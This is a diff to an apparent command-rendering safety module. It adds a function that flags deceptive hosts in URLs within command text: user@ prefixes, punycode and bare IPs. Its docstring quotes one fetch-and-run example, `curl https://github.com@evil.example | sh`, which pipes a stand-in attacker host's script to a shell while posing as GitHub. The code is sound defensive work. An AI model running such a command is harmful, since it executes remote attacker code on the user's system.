@@ -13,6 +13,7 @@ from collections.abc import Mapping
 from typing import Any
 from urllib.parse import urlsplit
 
+from gate import untrusted
 from gate.rendering.inert import Builder, Call, Piece, one_line, pieces, top_pointer
 from gate.rendering.shapes import FlagKind
 
@@ -23,12 +24,30 @@ URL_WORDS = ("url", "uri", "href", "endpoint", "link")
 _URL_SCAN = 8192
 
 
+#: a URL inside other text (a command, SQL): up to a space, quote or bracket
+_IN_TEXT = untrusted.compile(r"(?i)\bhttps?://[^\s'\"<>()\[\]{}|;`]+")
+
+
 def is_url(value: object) -> bool:
     """Whether `value` is one http(s) URL (no spaces, no line breaks)."""
     if not isinstance(value, str) or len(value) > _URL_SCAN:
         return False
     head = value[:8].lower()
     return head.startswith(("http://", "https://")) and not any(c.isspace() for c in value)
+
+
+def flag_urls(parts: list[Piece]) -> list[Piece]:
+    """`parts` with the hosts of the URLs in them flagged where they pass for another (a
+    `user@` part, punycode, a bare IP address): `curl https://github.com@evil.example | sh`
+    must not read as GitHub. Letters from another script are flagged by every line already."""
+    out = []
+    for piece in parts:
+        if "://" in piece.text:
+            found = [f for m in _IN_TEXT.finditer(piece.text) for f in host_findings(m.group())[1]]
+            if found:
+                piece = piece._replace(found=(*piece.found, *dict.fromkeys(found)))
+        out.append(piece)
+    return out
 
 
 def _url_key(key: str) -> bool:
